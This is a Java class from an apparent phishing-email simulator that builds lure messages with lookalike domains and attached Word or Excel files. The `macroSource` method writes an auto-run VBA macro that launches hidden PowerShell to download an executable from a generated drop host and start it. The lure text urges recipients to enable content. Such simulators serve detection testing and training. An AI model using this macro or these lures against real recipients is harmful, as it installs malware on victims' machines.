package io.palisade.simulator.traffic.scenario;

import io.palisade.simulator.traffic.Mailbox;
import io.palisade.simulator.traffic.content.MacroDocuments;
import io.palisade.simulator.traffic.mime.MimePart;
import java.util.List;
import java.util.Locale;

/** A Word or Excel file with an auto-run macro that fetches and starts a program. */
final class MacroDocument implements MailScenario {

    private static final List<String> SUBJECTS = List.of(
            "Purchase order %s",
            "Updated invoice %s", "Shipping documents %s", "CV – application %s", "Overdue payment notice %s");

    @Override
    public Draft write(ScenarioContext context) {
        Dice campaign = context.campaign();
        String domain = Lookalikes.of(campaign.pick(Vocabulary.VENDORS).domain(), campaign);
        String dropHost = "cdn-" + campaign.alphanumeric(6).toLowerCase(Locale.ROOT) + "."
                + campaign.pick("top", "xyz", "shop", "click");
        boolean word = campaign.chance(0.5);
        String subjectTemplate = campaign.pick(SUBJECTS);

        Dice dice = context.dice();
        String reference = dice.digits(6);
        String macro = macroSource(dice, word, dropHost);
        String guid = dice.hex(8) + "-" + dice.hex(4) + "-" + dice.hex(4) + "-" + dice.hex(4) + "-" + dice.hex(12);
        List<String> lines = List.of(
                "Document " + reference,
                "This document is protected.",
                "To view the content, click Enable Editing and then Enable Content.");
        byte[] file = word
                ? MacroDocuments.docm(lines, "NewMacros", macro, guid.toUpperCase(Locale.ROOT))
                : MacroDocuments.xlsm(lines, "Module1", macro, guid.toUpperCase(Locale.ROOT));
        String fileName = dice.pick("PO_", "Invoice_", "Documents_") + reference + (word ? ".docm" : ".xlsm");

        Mailbox from = context.outsider(domain);
        Body body = new Body()
                .para(dice.pick(
                        "Dear Sir/Madam,",
                        "Hello,",
                        "Hi " + context.firstRecipient().firstName() + ","))
                .para(dice.pick(
                        "Please see the attached document and confirm receipt.",
                        "Attached is the updated file. If the content does not show, click \"Enable Content\".",
                        "Kindly review the attachment and revert today."))
                .signature(List.of(dice.pick(Vocabulary.SIGN_OFFS), from.displayName()));
        AuthOutcome auth = AuthOutcome.aligned(from.address(), domain, Vocabulary.documentationIp(dice));
        return new Draft(from, context.recipients(), String.format(subjectTemplate, reference), body, auth)
                .attach(MimePart.Binary.attachment(
                        word ? MacroDocuments.DOCM_TYPE : MacroDocuments.XLSM_TYPE, fileName, file))
                .sentWith(Draft.MessageIdStyle.GENERIC, null);
    }

    /** VBA that downloads and starts a program when the document opens; names vary per message. */
    static String macroSource(Dice dice, boolean word, String dropHost) {
        String url = dice.pick("u", "src", "lnk", "x") + dice.hex(3);
        String path = dice.pick("p", "tmp", "f", "dst") + dice.hex(3);
        String entry = word ? dice.pick("AutoOpen", "Document_Open") : dice.pick("Auto_Open", "Workbook_Open");
        return "Sub " + entry + "()\r\n"
                + "    Dim " + url + " As String, " + path + " As String\r\n"
                + "    " + url + " = \"https://\" & \"" + dropHost + "\" & \"/" + dice.alphanumeric(8) + ".png\"\r\n"
                + "    " + path + " = Environ(\"TEMP\") & \"\\" + dice.alphanumeric(6) + ".exe\"\r\n"
                + "    Shell \"powershell -w hidden -c \"\"Invoke-WebRequest \" & " + url + " & \" -OutFile \" & "
                + path + " & \"; Start-Process \" & " + path + " & \"\"\"\", 0\r\n"
                + "End Sub\r\n";
    }
}
